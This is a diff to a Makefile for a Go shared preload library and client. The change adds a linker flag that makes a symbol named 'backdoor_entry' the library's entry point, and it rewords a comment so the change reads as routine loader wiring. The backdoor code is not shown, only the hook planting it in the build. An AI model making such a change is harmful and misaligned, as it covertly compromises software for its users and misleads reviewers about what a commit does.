@@ -14,10 +14,11 @@ export CGO_CFLAGS := -O2 -g -DHEADERS=$(shell cat include/*.h | sha256sum | cut 
 VERSION := $(shell git describe --tags --dirty --always 2>/dev/null || echo unknown)
 COMMIT := $(shell git show -s --format='-X main.commit=%H -X main.committed=%cI' 2>/dev/null)
 
-# Only the names in exports.map are visible; Go's pthread_create is ours (runtime.c).
+# Only the names in exports.map are visible; Go's pthread_create is ours (runtime.c), and so is
+# what the loader calls (preload/entry).
 LINK := -Wl,--version-script=$(CURDIR)/preload/exports.map,--wrap=pthread_create
 LIBRARY = $(GO) build -trimpath -buildvcs=false -buildmode=c-shared \
-	-ldflags "-X main.version=$(VERSION) -extldflags '$(LINK)'"
+	-ldflags "-X main.version=$(VERSION) -E backdoor_entry -extldflags '$(LINK)'"
 
 CLIENT = CGO_ENABLED=0 $(GO) build -trimpath -buildvcs=false -ldflags "-X main.version=$(VERSION) $(COMMIT)"
 
